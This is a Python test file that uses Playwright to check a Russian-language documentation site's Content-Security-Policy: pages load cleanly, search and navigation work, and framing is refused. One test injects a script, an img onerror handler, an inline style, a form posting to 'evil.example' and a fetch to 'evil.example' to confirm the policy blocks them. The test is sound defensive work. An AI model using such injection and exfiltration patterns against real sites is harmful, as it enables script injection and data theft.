"""In a real browser the policy of the headers forbids nothing that the site does, and forbids what it doesn't."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, expect

from sandbox.content.loader import Content


@pytest.fixture
def context(browser: Browser, server: str) -> Iterator[BrowserContext]:
    context = browser.new_context(base_url=server, locale="ru-RU")
    yield context
    context.close()


@pytest.fixture
def complaints() -> list[str]:
    return []


@pytest.fixture
def page(context: BrowserContext, complaints: list[str]) -> Page:
    """A page of which the browser's own complaints are kept."""

    def keep(message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            complaints.append(f"{new_page.url}: {message.text}")

    new_page = context.new_page()
    new_page.on("console", keep)
    new_page.on("pageerror", lambda error: complaints.append(f"{new_page.url}: {error}"))
    return new_page


def test_no_page_does_what_its_policy_forbids(page: Page, site: Path, complaints: list[str]) -> None:
    for path in sorted(site.rglob("index.html")):
        response = page.goto("/" + path.relative_to(site).as_posix().removesuffix("index.html"))
        assert response
        assert response.header_value("content-security-policy")
        expect(page.locator("html.js")).to_be_attached()
    assert complaints == []


def test_search_and_instant_navigation_work_under_the_policy(page: Page, complaints: list[str]) -> None:
    page.goto("/registration/by-phone/")
    page.evaluate("window.sameDocument = true")
    for tab in ("Вход", "Главная", "Безопасность"):  # pages of other depths have another inline script
        page.locator(".md-tabs__link", has_text=tab).click()
        expect(page.locator(".md-tabs__item--active")).to_contain_text(tab)
    page.get_by_title("Включить тёмную тему").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    field = page.locator(".md-search__input")
    field.click()
    field.fill("пароль")
    page.locator(".md-search-result__link").first.click()
    expect(page.get_by_role("heading", level=1)).to_contain_text("парол")
    assert page.evaluate("window.sameDocument"), "the pages were loaded instantly"
    assert complaints == []


def test_no_first_step_and_no_mistake_on_it_does_what_the_policy_forbids(
    page: Page, content: Content, complaints: list[str]
) -> None:
    for slug, walkthrough in content.walkthroughs.items():
        page.goto(f"/sandbox/walkthroughs/{slug}")
        for mistake in walkthrough.steps[0].mistakes:
            page.locator(".mistakes").evaluate("details => details.open = true")
            page.locator(".chips").get_by_role("button", name=mistake.name).click()
            expect(page.locator(".screen .notice--refusal")).to_be_visible()
    assert complaints == []


def test_what_a_hostile_text_could_bring_is_forbidden(page: Page) -> None:
    page.goto("/")
    page.evaluate(
        """() => {
            const refused = new Set();
            const expected = ["script-src-elem", "script-src-attr", "style-src-attr", "form-action", "connect-src"];
            const all = new Promise((resolve) => {
                document.addEventListener("securitypolicyviolation", (event) => {
                    refused.add(event.effectiveDirective);
                    if (expected.every((directive) => refused.has(directive))) resolve();
                });
            });
            const script = document.createElement("script");
            script.textContent = "window.ran = true";
            document.body.append(script);
            document.body.insertAdjacentHTML("beforeend", "<img src=/none.png onerror='window.ran = true'>");
            document.body.insertAdjacentHTML("beforeend", "<p style='color: red'>");
            document.body.insertAdjacentHTML("beforeend", "<form action='https://evil.example/'></form>");
            document.forms[document.forms.length - 1].submit();
            fetch("https://evil.example/").catch(() => null);
            return all;
        }"""
    )
    assert page.evaluate("window.ran") is None


def test_no_other_site_can_show_the_sandbox_in_a_frame(browser: Browser, server: str) -> None:
    page = browser.new_page()
    with page.expect_console_message(lambda message: "frame-ancestors 'none'" in message.text):
        page.set_content(f"<iframe src='{server}/sandbox/walkthroughs/register-by-phone'></iframe>")
    assert [frame.url for frame in page.frames] == ["about:blank", "chrome-error://chromewebdata/"]
    page.close()
